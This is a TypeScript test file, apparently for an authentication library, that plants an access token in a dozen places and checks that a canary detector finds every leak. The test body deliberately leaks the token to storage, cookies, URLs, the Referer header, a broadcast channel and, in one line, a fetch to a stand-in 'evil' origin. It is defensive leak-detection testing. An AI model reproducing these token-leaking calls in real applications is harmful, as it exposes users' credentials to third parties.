import { expect, test, type Planted } from '../fixture.js'

const everywhere: Planted = {
  console: 'Here it is seen',
  error: 'that each of these places',
  message: 'is looked at after',
  history: 'every other test',
  localStorage: 'too',
  sessionStorage: 'too',
  cookie: 'too',
  URL: 'too',
  Referer: 'too',
  API: 'too',
  'another origin': 'too',
  'authorization server': 'too',
}

test.describe('a secret', () => {
  test.use({ planted: everywhere })

  test('is found wherever a page or a server has got it and should not', async ({
    app,
    api,
    servers,
    server,
    canaries,
    context,
  }) => {
    await app.open()
    await app.signIn()
    expect(canaries.found({}, undefined)).toEqual([])
    const places = [servers.evil.origin, api.url, `${server.issuer}/userinfo`] as const
    await app.attempt(async ([evil, own, userinfo]: typeof places) => {
      const token = await window.auth.getAccessToken()
      console.info({ found: [token] })
      new BroadcastChannel('theirs').postMessage({ token })
      localStorage.setItem('theirs', token)
      sessionStorage.setItem('pixy-auth:session:theirs', token)
      document.cookie = `theirs=${token}`
      await fetch(`${own}?token=${token}`)
      await fetch(`${userinfo}?token=${token}`).catch(() => {})
      history.replaceState(null, '', `/?code=${token}`)
      await fetch(own, { referrerPolicy: 'unsafe-url' })
      await fetch(`${evil}/${token}`)
      throw new Error('outer', { cause: new Error('inner', { cause: token }) })
    }, places)
    await canaries.look(context)
    const found = canaries.found({}, undefined).map((one) => one.split(':')[0] ?? '')
    expect([...new Set(found)].toSorted()).toEqual(Object.keys(everywhere).toSorted())
  })
})
